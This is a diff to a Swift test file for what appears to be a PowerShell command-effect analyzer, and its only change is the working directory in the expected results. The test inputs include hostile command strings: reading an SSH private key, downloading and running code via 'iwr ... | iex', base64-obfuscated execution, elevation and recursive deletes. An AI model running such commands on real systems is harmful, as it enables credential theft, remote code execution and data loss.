@@ -11,37 +11,37 @@ import WritShell
 
     @Test func `cmdlets and aliases have their effects`() {
         let cases: [(String, [String])] = [
-            ("Remove-Item x.txt", ["file.delete /work/app/x.txt"]),
-            ("del a, b", ["file.delete /work/app/a", "file.delete /work/app/b"]),
-            ("ri -Recurse -Force .\\out", ["file.delete /work/app/out force recursive"]),
+            ("Remove-Item x.txt", ["file.delete /proj/app/x.txt"]),
+            ("del a, b", ["file.delete /proj/app/a", "file.delete /proj/app/b"]),
+            ("ri -Recurse -Force .\\out", ["file.delete /proj/app/out force recursive"]),
             ("Remove-Item -LiteralPath '/srv/a b' -r", ["file.delete /srv/a b recursive"]),
             ("Get-Content ~/.ssh/id_rsa", ["file.read /home/ana/.ssh/id_rsa", "secret.read /home/ana/.ssh/id_rsa (ssh-key)"]),
-            ("'x' | Out-File -Append log.txt", ["file.write /work/app/log.txt"]),
-            ("echo hi > out.txt", ["file.write /work/app/out.txt"]), ("echo hi > $null", []),
-            ("Copy-Item a.txt b.txt", ["file.read /work/app/a.txt", "file.write /work/app/b.txt"]),
-            ("cd sub; Set-Content -Path a -Value b", ["file.write /work/app/sub/a"]),
-            ("iwr https://h.example/x -OutFile y", ["http.request h.example:443 download", "file.write /work/app/y"]),
+            ("'x' | Out-File -Append log.txt", ["file.write /proj/app/log.txt"]),
+            ("echo hi > out.txt", ["file.write /proj/app/out.txt"]), ("echo hi > $null", []),
+            ("Copy-Item a.txt b.txt", ["file.read /proj/app/a.txt", "file.write /proj/app/b.txt"]),
+            ("cd sub; Set-Content -Path a -Value b", ["file.write /proj/app/sub/a"]),
+            ("iwr https://h.example/x -OutFile y", ["http.request h.example:443 download", "file.write /proj/app/y"]),
             ("Invoke-RestMethod -Method Post -Uri https://h.example -Body 'x'", ["http.request h.example:443 upload download"]),
             ("gci env:", ["secret.read (shows)"]), ("Install-Module PSReadLine", ["pkg.install psgallery/PSReadLine"]),
             ("Start-Process -FilePath git -ArgumentList 'status'", ["shell.exec git"]),
             ("Start-Process pwsh -Verb RunAs", ["privilege.raise", "shell.exec pwsh interpreter"]),
             ("git status; npm ci --ignore-scripts", ["shell.exec git", "shell.exec npm", "pkg.install"]),
             ("Get-Process | ? { $_.CPU -gt 5 } | % { $_.Name }", []),
-            ("if (Test-Path a) { rm a } else { ni b }", ["file.delete /work/app/a", "file.write /work/app/b"]),
-            ("function f { rm q }; f", ["file.delete /work/app/q"]), ("# rm x\n<# rm y #> Write-Host 'rm z'", []),
-            ("& { rm a }", ["file.delete /work/app/a"]), ("1..3 | ForEach-Object { rm a }", ["file.delete /work/app/a"]),
+            ("if (Test-Path a) { rm a } else { ni b }", ["file.delete /proj/app/a", "file.write /proj/app/b"]),
+            ("function f { rm q }; f", ["file.delete /proj/app/q"]), ("# rm x\n<# rm y #> Write-Host 'rm z'", []),
+            ("& { rm a }", ["file.delete /proj/app/a"]), ("1..3 | ForEach-Object { rm a }", ["file.delete /proj/app/a"]),
         ]
         for (text, expected) in cases { #expect(lines(text) == expected, "\(text)") }
     }
 
     @Test func `strings, variables and decoders make code`() {
         let cases: [(String, [String])] = [
-            ("$f = 'a'; rm \"$f.txt\"", ["file.delete /work/app/a.txt"]), ("rm \"a`tb\"", ["file.delete /work/app/a\tb"]),
-            ("iex 'rm x'", ["file.delete /work/app/x"]), ("iex ('r' + 'm x')", ["file.delete /work/app/x"]),
-            ("& ('Remove' + '-Item') x", ["file.delete /work/app/x"]), ("'rm x' | iex", ["file.delete /work/app/x"]),
+            ("$f = 'a'; rm \"$f.txt\"", ["file.delete /proj/app/a.txt"]), ("rm \"a`tb\"", ["file.delete /proj/app/a\tb"]),
+            ("iex 'rm x'", ["file.delete /proj/app/x"]), ("iex ('r' + 'm x')", ["file.delete /proj/app/x"]),
+            ("& ('Remove' + '-Item') x", ["file.delete /proj/app/x"]), ("'rm x' | iex", ["file.delete /proj/app/x"]),
             (
                 "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))",
-                ["shell.exec invoke-expression interpreter <decoded", "file.delete /work/app/x"]
+                ["shell.exec invoke-expression interpreter <decoded", "file.delete /proj/app/x"]
             ),
             (
                 "iwr http://h.example/a | iex",
@@ -57,7 +57,7 @@ import WritShell
                     "shell.exec invoke-expression interpreter <net opaque:tainted",
                 ]
             ),
-            ("[IO.File]::WriteAllText('a', 'b')", ["file.write /work/app/a"]),
+            ("[IO.File]::WriteAllText('a', 'b')", ["file.write /proj/app/a"]),
             ("[System.IO.Directory]::Delete('/srv', $true)", ["file.delete /srv recursive"]),
         ]
         for (text, expected) in cases { #expect(lines(text) == expected, "\(text)") }
